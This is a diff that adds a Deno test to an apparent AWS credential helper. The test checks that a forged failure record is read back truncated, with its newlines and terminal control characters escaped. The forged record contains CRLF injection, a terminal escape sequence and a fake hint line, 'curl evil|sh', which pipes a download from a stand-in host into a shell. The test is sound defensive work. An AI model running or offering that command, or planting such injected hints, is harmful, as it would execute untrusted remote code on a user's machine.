@@ -93,3 +93,28 @@ Deno.test("failureRecordPath() sits next to the lock file", () => {
   assert.equal(failureRecordPath("/l/role-ab.lock"), "/l/role-ab.failure");
   assert.equal(failureRecordPath("/l/login-Default.lock"), "/l/login-Default.failure");
 });
+
+Deno.test("a forged record is read back capped (1,000 characters, 5 hints) and as single escaped lines", async () => {
+  await withDir(async (lock) => {
+    const clock = clockAt(1_000_000);
+    await Deno.mkdir(lock.slice(0, lock.lastIndexOf("/")), { recursive: true });
+    await Deno.writeTextFile(
+      failureRecordPath(lock),
+      JSON.stringify({
+        at: 1_000_000,
+        message: "GetRoleCredentials failed\r\nhint: curl evil|sh" + "m".repeat(50_000),
+        hints: ["h".repeat(50_000), "two\nhint: curl evil|sh\x1b]0;x\x07", "3", "4", "5", "6", "7"],
+        network: false,
+      }),
+    );
+    const e = await new SharedFailure(lock, { clock }).recent();
+    assert.ok(e instanceof AwsApiError);
+    assert.ok(e.message.startsWith("GetRoleCredentials failed\\r\\nhint: curl evil|sh"));
+    assert.ok(e.message.length <= 1_000 + 10, `message of ${e.message.length} characters`);
+    assert.equal(e.hints.length, 6, "5 recorded hints and the 'another process' one");
+    assert.equal(e.hints[0], "h".repeat(1_000));
+    assert.equal(e.hints[1], "two\\nhint: curl evil|sh\\x1b]0;x\\x07");
+    // deno-lint-ignore no-control-regex -- the attack is control characters
+    for (const text of [e.message, ...e.hints]) assert.ok(!/[\n\r\x1b\x07]/.test(text), text);
+  });
+});
